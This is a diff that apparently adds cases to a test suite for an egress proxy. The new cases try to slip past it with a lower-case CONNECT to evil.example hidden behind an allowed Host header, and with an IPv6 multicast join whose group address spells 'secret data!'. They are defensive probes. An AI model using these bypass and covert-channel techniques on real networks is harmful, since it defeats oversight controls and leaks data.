@@ -334,6 +334,20 @@ def a_second_proxy_out_there():
 
 
 @way
+def connect_in_lower_case():
+    ask = b"connect evil.example:443 HTTP/1.1\r\nHost: allowed.example\r\n\r\n"
+    return tcp(("allowed.example", 80), send=ask)
+
+
+@way
+def a_multicast_group_as_a_message():
+    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
+        group = socket.inet_pton(socket.AF_INET6, "ff02:7365:6372:6574:2064:6174:6121:1")
+        sock.setsockopt(41, 20, group + struct.pack("@I", socket.if_nametoindex("eth0")))
+        return "whoever counts packets knows"
+
+
+@way
 def http_to_an_address_under_an_allowed_name():
     # It is judged, and goes to where the sidecar finds that name: nowhere else, whatever address it was sent to.
     return tcp((FACTS["other"], 80), send=b"GET /elsewhere HTTP/1.1\r\nHost: other.example\r\nConnection: close\r\n\r\n")
